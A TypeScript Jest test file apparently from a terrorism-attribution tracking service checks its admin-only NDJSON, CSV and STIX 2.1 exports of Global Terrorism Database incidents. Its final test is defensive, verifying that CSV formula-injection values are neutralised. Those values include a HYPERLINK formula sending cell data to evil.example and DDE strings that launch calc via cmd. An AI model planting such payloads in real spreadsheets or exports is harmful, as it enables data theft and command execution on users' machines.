// The three exports (the log as NDJSON, incidents as CSV, STIX 2.1) over the GTD file of
// support/gtd-import.ts imported once, with a retraction, a denial and an assessment added.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it, jest } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { runCli } from '../../apps/cli/src/cli-program.js';
import { bearer } from '../support/test-app.js';
import { countEvents } from '../support/test-database.js';
import { checkStixBundle } from './support/stix21.js';
import {
  byEventId,
  dir,
  gtdSourceId,
  incidents,
  loadIncidents,
  post,
  text,
  t,
  TTP,
  ttpId,
  useGtdImport,
} from './support/gtd-import.js';

useGtdImport('gtd-exports');

describe('exports', () => {
  let claimA: string;
  let retraction: string;
  let denial: string;

  beforeAll(async () => {
    const a = byEventId.get('201401010001');
    claimA = a.claims[0].id;
    retraction = (
      await post(
        `/v1/incidents/${a.id}/claims/${claimA}/retractions`,
        { retractedAt: '2014-01-03T00:00:00Z', sourceId: gtdSourceId, reason: 'disowned' },
        t.keys.reporter,
      )
    ).id;
    const c = byEventId.get('201400000001');
    denial = (
      await post(
        `/v1/incidents/${c.id}/denials`,
        { group: 'Lashkar-e-Jhangvi', deniedAt: '2014-06-01T00:00:00Z', sourceId: gtdSourceId, statement: 'not us' },
        t.keys.reporter,
      )
    ).id;
    const b = byEventId.get('201402000001');
    await post(
      `/v1/incidents/${b.id}/claims/${b.claims[0].id}/authenticity`,
      { verdict: 'doubtful', basis: 'the letter is unsigned' },
      t.keys.analyst,
    );
    await loadIncidents();
  }, 60_000);

  it('are admin-only', async () => {
    for (const path of ['/v1/exports/events.ndjson', '/v1/exports/incidents.csv', '/v1/exports/stix']) {
      expect((await t.http.get(path).set(bearer(t.keys.analyst))).status).toBe(403);
    }
  });

  it('stream the log as NDJSON with positions, resumable after any line', async () => {
    const all = await text('/v1/exports/events.ndjson');
    expect(all.status).toBe(200);
    expect(all.type).toMatch(/^application\/x-ndjson/);
    const events = all.body
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(events).toHaveLength(await countEvents(t.tdb.app.db));
    expect(events[0]).toEqual({
      position: expect.any(Number),
      transactionId: expect.any(String),
      streamId: expect.any(String),
      streamType: expect.any(String),
      streamVersion: expect.any(Number),
      eventId: expect.any(String),
      type: expect.any(String),
      schemaVersion: 1,
      recordedAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/),
      data: expect.any(Object),
      metadata: expect.objectContaining({ actor: expect.any(Object) }),
    });
    for (const k of [1, 7, events.length - 1]) {
      const rest = await text(`/v1/exports/events.ndjson?fromPosition=${events[k - 1].position}`);
      const lines = rest.body
        .trimEnd()
        .split('\n')
        .filter(Boolean)
        .map((l) => JSON.parse(l));
      expect(lines.map((e) => e.position)).toEqual(events.slice(k).map((e) => e.position));
    }
    const bad = await t.http.get('/v1/exports/events.ndjson?fromPosition=999999').set(bearer(t.keys.admin));
    expect(bad.status).toBe(422);
    expect(bad.body.errors[0].path).toBe('fromPosition');
  });

  it('give the current attribution picture as CSV', async () => {
    const res = await text('/v1/exports/incidents.csv');
    expect(res.status).toBe(200);
    const lines: Array<Record<string, string>> = parse(res.body, { columns: true });
    expect(lines).toHaveLength(7);
    const a = lines.find((l) => l.gtd_eventid === '201401010001')!;
    expect(a).toMatchObject({
      occurred_at: '2014-01-01',
      occurred_precision: 'day',
      country: 'PK',
      type: 'bombing',
      suicide: 'true',
      status: 'attributed',
      claimed_by: '',
      retracted_by: 'Tehreek-e-Taliban Pakistan',
      attributed_to: 'Tehreek-e-Taliban Pakistan',
      attributed_to_ids: ttpId,
      attribution_confidences: '80',
      killed_min: '5',
    });
    const b = lines.find((l) => l.gtd_eventid === '201402000001')!;
    expect(b).toMatchObject({
      competing_claims: 'true',
      claimed_by: 'Lashkar-e-Jhangvi; Tehreek-e-Taliban Pakistan',
      attribution_confidences: '40; 80',
    });
    expect(lines.find((l) => l.gtd_eventid === '201400000001')).toMatchObject({
      denied_by: 'Lashkar-e-Jhangvi',
      status: 'unclaimed',
    });
    expect(lines.some((l) => l.summary === 'Line one\nline two, "quoted"')).toBe(true);
    // Ordered by occurrence.
    expect(lines.map((l) => l.occurred_earliest)).toEqual([...lines.map((l) => l.occurred_earliest)].sort());
  });

  it(
    'give a STIX 2.1 bundle that meets the specification, ' + 'with claims, retractions, denials and opinions',
    async () => {
      const res = await text('/v1/exports/stix');
      expect(res.status).toBe(200);
      expect(res.type).toMatch(/^application\/stix\+json/);
      const bundle = JSON.parse(res.body);
      expect(checkStixBundle(bundle)).toEqual([]);
      const obj = (id: string) => bundle.objects.find((o: any) => o.id === id);
      const a = byEventId.get('201401010001');
      expect(obj(`incident--${a.id}`)).toMatchObject({
        external_references: [{ source_name: 'gtd', external_id: '201401010001' }],
        x_claimtrail_occurred_at: '2014-01-01',
        x_claimtrail_location: { country: 'PK' },
      });
      expect(obj(`intrusion-set--${ttpId}`)).toMatchObject({
        name: 'Tehreek-e-Taliban Pakistan',
        aliases: ['TTP', TTP],
      });
      expect(obj(`identity--${gtdSourceId}`)).toMatchObject({
        name: 'Global Terrorism Database (START)',
        identity_class: 'organization',
        x_claimtrail_reliability: 'B',
      });
      expect(obj(`relationship--${a.attributions[0].id}`)).toMatchObject({
        relationship_type: 'attributed-to',
        source_ref: `incident--${a.id}`,
        target_ref: `intrusion-set--${ttpId}`,
        confidence: 80,
      });
      expect(obj(`note--${claimA}`)).toMatchObject({
        object_refs: [`incident--${a.id}`, `intrusion-set--${ttpId}`],
        x_claimtrail_kind: 'claim',
        x_claimtrail_status: 'retracted',
        // GTD gives no claim time: the incident's earliest moment, marked unknown.
        x_claimtrail_claimed_at: '2014-01-01T00:00:00.000Z',
        x_claimtrail_claimed_at_unknown: true,
        content: expect.stringContaining('at an unknown time, not before 2014-01-01T00:00:00.000Z'),
      });
      expect(obj(`note--${retraction}`)).toMatchObject({
        object_refs: [`note--${claimA}`, `incident--${a.id}`, `intrusion-set--${ttpId}`],
        x_claimtrail_kind: 'retraction',
        x_claimtrail_retracted_at: '2014-01-03T00:00:00.000Z',
      });
      expect(obj(`note--${denial}`)).toMatchObject({ x_claimtrail_kind: 'denial' });
      const b = byEventId.get('201402000001');
      expect(bundle.objects.find((o: any) => o.type === 'opinion')).toMatchObject({
        opinion: 'disagree',
        object_refs: [`note--${b.claims[0].id}`],
      });
      expect(obj(`relationship--${b.attributions[0].id}`)).toMatchObject({ confidence: 40 });

      const period = JSON.parse((await text('/v1/exports/stix?from=2016-01-01&to=2016-12-31')).body);
      expect(checkStixBundle(period)).toEqual([]);
      expect(period.objects.filter((o: any) => o.type === 'incident')).toHaveLength(2);
    },
  );

  it('have CLI equivalents that write the same exports', async () => {
    const out = (name: string) => join(dir, name);
    const err = jest.spyOn(console, 'error').mockImplementation(() => undefined);
    try {
      expect(await runCli(['export-stix', '--out', out('b.json')])).toBe(0);
      expect(
        await runCli(['export-incidents', '--from', '2014-01-01', '--to', '2014-12-31', '--out', out('i.csv')]),
      ).toBe(0);
      expect(await runCli(['export-events', '--from-position', '0', '--out', out('e.ndjson')])).toBe(0);
      expect(await runCli(['export-events', '--from-position', '999999'])).toBe(2);
    } finally {
      err.mockRestore();
    }
    expect(checkStixBundle(JSON.parse(readFileSync(out('b.json'), 'utf8')))).toEqual([]);
    expect(parse(readFileSync(out('i.csv')), { columns: true })).toHaveLength(4);
    expect(readFileSync(out('e.ndjson'), 'utf8').trimEnd().split('\n')).toHaveLength(await countEvents(t.tdb.app.db));
  });

  // Issue 16 item 1: cells a spreadsheet would run (OWASP's rule) come out as text with a leading
  // apostrophe; negative numbers stay numbers. Runs last: it adds an incident the counts above omit.
  it('neutralise spreadsheet formulas in every text cell of the CSV', async () => {
    const group = `=2+5+cmd|' /C calc'!A0`;
    const hostile = {
      summary: '=1+2',
      place: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      target: `@SUM(1+1)*cmd|' /C calc'!A0`,
    };
    await post('/v1/groups', { name: group }, t.keys.analyst);
    const { id } = await post(
      '/v1/incidents',
      {
        occurredAt: '2019-05-05',
        location: { country: 'PK', admin1: '+Plus', place: hostile.place, lat: -33.5, lon: -70.25 },
        type: 'bombing',
        target: hostile.target,
        summary: hostile.summary,
        sourceIds: [gtdSourceId],
      },
      t.keys.reporter,
    );
    await post(
      `/v1/incidents/${id}/claims`,
      { group, claimedAt: '2019-05-06T00:00:00Z', sourceId: gtdSourceId, channel: 'statement' },
      t.keys.reporter,
    );
    await loadIncidents();
    const res = await text('/v1/exports/incidents.csv');
    expect(res.status).toBe(200);
    const rows: string[][] = parse(res.body);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
    const cols: Array<Record<string, string>> = parse(res.body, { columns: true });
    expect(cols.find((l) => l.incident_id === id)).toMatchObject({
      summary: `'${hostile.summary}`,
      place: `'${hostile.place}`,
      target: `'${hostile.target}`,
      admin1: "'+Plus",
      claimed_by: `'${group}`,
      lat: '-33.5',
      lon: '-70.25',
    });
  });
});
